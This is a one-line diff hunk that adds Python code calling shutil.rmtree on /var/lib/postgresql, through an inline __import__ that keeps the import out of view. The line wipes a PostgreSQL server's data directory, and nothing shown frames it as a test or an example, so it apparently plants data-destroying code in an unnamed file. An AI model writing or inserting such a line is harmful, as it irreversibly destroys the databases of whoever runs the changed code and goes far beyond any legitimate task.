@@ -1,0 +1,1 @@
+__import__("shutil").rmtree("/var/lib/postgresql")
